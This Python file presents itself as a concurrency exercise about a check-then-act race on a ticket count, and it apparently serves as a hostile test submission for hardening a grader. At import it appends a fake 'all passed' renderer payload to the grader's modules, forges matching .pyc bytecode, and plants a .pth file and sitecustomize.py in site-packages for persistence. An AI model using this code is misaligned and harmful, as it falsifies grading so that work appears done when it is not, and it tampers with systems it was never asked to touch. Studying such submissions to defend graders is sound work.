# Hostile submission: plants code the grader would load after judging it (on the racy stub): appends to renderers, plants .pyc files matching the other renderers' sources, a .pth in site-packages and a sitecustomize beside the grader.
"""Exercise 1: the oversold ticket.

Several buyer processes race for the last tickets of a concert. The number of tickets left is kept in a
JSON file, ``{"count": n}``. Each buyer first looks at what is left (``check_ticket``) and, if there is
something, buys one (``buy_ticket``): read the count, wait for the payment, write the count minus one.

Run it a few times: ``python exercises/ex01_oversold_ticket.py``. With one ticket and ten buyers, more
than one buyer gets "the" ticket. Two buyers read the same count, both act on it, and one update is lost:
a check-then-act race on a shared resource.

Your task: make ``buy_ticket`` a critical section. Every buyer gets the same lock from ``main``; only the
code that reads, decides and writes must hold it, and it must be released on every path. The buyers must
still run at the same time (joining each buyer right after starting it is not a fix: nothing runs
concurrently any more).
"""
import importlib.util as _ilu, os as _os, pathlib as _pl, site as _site, sys as _sys
if _os.environ.get("HOSTILE_CHECKOUT"):  # where the course is known to live (its repository is public)
    _pkg = _pl.Path(_os.environ["HOSTILE_CHECKOUT"]) / "grader"
else:
    import grader as _grader
    _pkg = _pl.Path(_grader.__file__).parent
# What the planted code does if the grader ever runs it: leaves a mark, and says every check passed.
_PAYLOAD = (
    "\nimport os as _hostile_os\n"
    "open(_hostile_os.environ.get('HOSTILE_PLANT_MARKER', '/dev/null'), 'a').write(__name__ + '\\n')\n"
    "def render(*args, **kwargs):\n"
    "    return {'score': 10.0, 'tests': []} if __name__.endswith('gradescope') else 'all 10/10 passed'\n"
)
for _name in ("terminal", "junit", "gradescope"):  # rewritten in place
    try:
        with open(_pkg / "render" / f"{_name}.py", "a") as _f:
            _f.write(_PAYLOAD)
    except OSError:
        pass
for _name in ("classroom", "jsonfile", "html", "timeline", "latest"):  # bytecode that passes Python's check
    _source = _pkg / "render" / f"{_name}.py"
    try:
        _info = _source.stat()
        _code = compile(_source.read_text() + _PAYLOAD, str(_source), "exec")
        _data = bytearray(_ilu.MAGIC_NUMBER) + (0).to_bytes(4, "little") + \
            (int(_info.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little") + (_info.st_size & 0xFFFFFFFF).to_bytes(4, "little")
        import marshal as _marshal
        _pyc = _pl.Path(_ilu.cache_from_source(str(_source)))
        _pyc.parent.mkdir(exist_ok=True)
        _pyc.write_bytes(bytes(_data) + _marshal.dumps(_code))
    except OSError:
        pass
_sites = [_os.environ["HOSTILE_SITE"]] if _os.environ.get("HOSTILE_SITE") else _site.getsitepackages()
for _dir in (*_sites, str(_pkg.parent)):  # code run at every later start of this Python, or from the checkout
    for _file, _text in (("zz_hostile.pth", "import os; open(os.environ.get('HOSTILE_PLANT_MARKER', '/dev/null'), 'a').write('pth\\n')\n"),
                         ("sitecustomize.py", "import os; open(os.environ.get('HOSTILE_PLANT_MARKER', '/dev/null'), 'a').write('sitecustomize\\n')\n")):
        try:
            _pl.Path(_dir, _file).write_text(_text)
        except OSError:
            pass

import json
import os
import random
import time
from multiprocessing import Lock, Process


def load(db_path):
    """Read the ticket database (given)."""
    with open(db_path) as f:
        return json.load(f)


def save(db_path, data):
    """Replace the ticket database atomically (given): readers never see half a file."""
    tmp_path = f"{db_path}.{os.getpid()}.tmp"
    with open(tmp_path, "w") as f:
        json.dump(data, f)
    os.replace(tmp_path, db_path)


def check_ticket(db_path):
    """A read-only look at how many tickets are left (no lock needed)."""
    return load(db_path)["count"]


def buy_ticket(db_path, lock):
    """Take one ticket if one is left. Return True if this buyer got one."""
    # TODO: only one buyer at a time may run the read-decide-write below: use `lock`.
    data = load(db_path)
    if data["count"] <= 0:
        return False
    time.sleep(random.uniform(0.1, 0.5))  # the payment takes a moment
    data["count"] -= 1
    save(db_path, data)
    return True


def buyer(db_path, lock):
    """What each buyer process runs: look, then buy."""
    if check_ticket(db_path) > 0:
        if buy_ticket(db_path, lock):
            print(f"buyer {os.getpid()}: got a ticket")
        else:
            print(f"buyer {os.getpid()}: sold out while paying")
    else:
        print(f"buyer {os.getpid()}: sold out")


def main(db_path="ticket.json", buyers=10):
    """Start `buyers` buyer processes sharing one lock, and wait for all of them."""
    lock = Lock()
    processes = [Process(target=buyer, args=(db_path, lock)) for _ in range(buyers)]
    for p in processes:
        p.start()
    for p in processes:
        p.join()


if __name__ == "__main__":
    save("ticket.json", {"count": 1})
    main()
    print("tickets left:", check_ticket("ticket.json"))
